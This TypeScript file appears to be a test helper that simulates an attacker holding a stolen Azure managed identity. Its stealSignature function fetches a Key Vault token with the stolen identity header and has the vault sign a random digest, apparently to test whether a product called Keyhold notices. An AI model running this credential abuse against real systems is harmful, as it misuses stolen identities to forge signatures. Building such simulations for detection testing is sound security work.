/**
 * An attacker with Keyhold's signing identity asks the managed identity endpoint for a vault token, and the vault for a
 * signature, as offensive tools do. Keyhold sees none of these requests.
 */
import { createHash, randomUUID } from "node:crypto";

interface StolenIdentity {
  identityEndpoint: string;
  identityHeader: string;
  clientId: string;
}

export async function stealSignature(identity: StolenIdentity, vaultUrl: string, keyId: string): Promise<string> {
  const url = new URL(identity.identityEndpoint);
  url.search = `${new URLSearchParams({
    "api-version": "2019-08-01",
    resource: "https://vault.azure.net",
    client_id: identity.clientId,
  })}`;
  const token = await fetch(url, { headers: { "X-IDENTITY-HEADER": identity.identityHeader } });
  const { access_token: accessToken } = (await token.json()) as { access_token: string };
  const digest = createHash("sha256").update(randomUUID()).digest("base64url");
  const response = await fetch(`${vaultUrl}${new URL(keyId).pathname}/sign?api-version=7.4`, {
    method: "POST",
    headers: { authorization: `Bearer ${accessToken}`, "content-type": "application/json", "user-agent": "thief" },
    body: JSON.stringify({ alg: "PS256", value: digest }),
  });
  if (response.status !== 200) throw new Error(`the vault answered ${response.status}`);
  return response.headers.get("x-ms-request-id") ?? "";
}
